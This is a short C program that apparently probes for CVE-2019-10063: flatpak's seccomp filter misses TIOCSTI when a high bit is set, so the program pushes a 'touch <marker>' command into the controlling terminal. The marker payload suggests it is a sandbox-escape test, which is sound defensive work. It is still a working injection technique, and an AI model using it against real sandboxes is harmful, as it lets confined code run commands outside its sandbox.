/* tiocsti-highbits: CVE-2019-10063 (flatpak): a seccomp rule comparing
 * the whole 64-bit ioctl request misses TIOCSTI with a high bit set, which
 * the kernel truncates to the 32-bit TIOCSTI.  Push keystrokes into the
 * terminal on stdin that way, taking it as the controlling terminal first
 * when the kernel asks for it. */
#include <stdio.h>
#include <sys/ioctl.h>

#include "targets.h"
#include "tty.h"

#define TIOCSTI_HIGH (TIOCSTI | (1UL << 32))

int main(int argc, char **argv)
{
	char keys[1200];

	targets_load(argc, argv);
	snprintf(keys, sizeof(keys), "touch %s\n", target("T_MARKER"));
	tty_inject(TIOCSTI_HIGH, "TIOCSTI | 1 << 32", keys);
	return 0;
}
